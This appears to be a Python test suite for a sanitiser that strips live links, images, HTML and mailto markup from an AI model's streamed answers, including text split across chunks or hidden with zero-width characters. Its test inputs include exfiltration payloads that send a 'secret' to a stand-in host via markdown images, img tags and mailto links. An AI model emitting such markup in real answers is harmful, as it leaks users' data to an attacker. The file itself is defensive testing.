"""What a model says is shown without anything live in it."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from assistant.untrusted import HarmlessStream, harmless
from tests.support.conversation import Talk
from tests.support.model import ScriptedModel, says

pytestmark = pytest.mark.anyio


@pytest.mark.parametrize(
    "pieces",
    [
        ("![x](https://evil.example/?d=secret)",),
        ("!", "[x", "]", "(", "https:", "//evil.example/?d=secret)"),
        ("![x][a]\n\n[a]: https://evil.example/?d=secret",),
        ("<img src=//evil.example/?d=secret>",),
        ("<", "img src=//evil.example/?d=secret>"),
        ("[pay here](//evil.example)",),
        ("see https://evil.example/?d=secret",),
        ("see w", "ww", ".evil.example"),
        ("see https:/", "/evil.example/?d=secret"),
        ("see https", ":", "/", "/evil.example/?d=secret"),
        ("<https://evil.example>",),
        ("mailto:a@evil.example?body=secret",),
        (":::warning\nhi\n:::",),
    ],
)
async def test_nothing_live_in_the_words_of_a_model(pieces: tuple[str, ...]) -> None:
    screen = await Talk(ScriptedModel(says(*pieces))).say("Hello")
    (shown,) = screen.of("answer")
    for live in ("](", "][", "]:", "<i", "<h", "://", "www.", "mailto:a", ":::"):
        assert live not in shown
    assert "evil" in shown or "hi" in shown


async def test_an_address_can_be_copied_into_a_mail() -> None:
    text = "Write to rechnung@kurierkollektiv.example."
    screen = await Talk(ScriptedModel(says(*text))).say("Hello")
    assert screen.of("answer") == [text]


async def test_plain_words_pass_unchanged() -> None:
    text = "€ 1,234.50 at 14:02: 1. **Müller** [draft] 5 < 6, 3 > 2; P&L"
    screen = await Talk(ScriptedModel(says(*text))).say("Hello")
    assert screen.of("answer") == [text]


@pytest.mark.parametrize(
    "text",
    [
        "see https://evil.example/a",
        "[a](//evil.example) ![b](x)",
        "HTTP://EVIL.example <img src=x> WWW.evil.example",
        "a:::b",
    ],
)
def test_wherever_it_is_cut_the_same_is_shown(text: str) -> None:
    for one in range(len(text) + 1):
        for two in range(one, len(text) + 1):
            stream = HarmlessStream()
            pieces = (text[:one], text[one:two], text[two:])
            assert "".join(stream.feed(piece) for piece in pieces) + stream.finish() == harmless(text), pieces


@settings(deadline=None)
@given(st.lists(st.text(alphabet="![]()<>:/@wW.a-x \n\u2060\u200b\x00e", max_size=6), max_size=12))
def test_however_it_is_cut_the_same_is_shown_and_nothing_is_live(pieces: list[str]) -> None:
    stream = HarmlessStream()
    shown = "".join(stream.feed(piece) for piece in pieces) + stream.finish()
    assert shown == harmless("".join(pieces))
    for live in ("](", "][", "]:", "://", "<a", "<x"):
        assert live not in shown


@pytest.mark.parametrize(
    "text",
    [
        "![x]\u200b(https:\ufeff//evil.example/?d=1)",
        "https:\u200b//evil.example",
        "https:/\x00/evil.example",
        "<\u200bimg src=x>",
        "w\u200bww.evil.example",
        "https://evil.example",
    ],
)
def test_nothing_becomes_live_by_what_is_taken_out_or_by_where_it_is_cut(text: str) -> None:
    for pieces in ([text], list(text)):
        stream = HarmlessStream()
        shown = "".join(stream.feed(piece) for piece in pieces) + stream.finish()
        assert shown == harmless(text)
        for live in ("](", "://", "<i", "www."):
            assert live not in shown
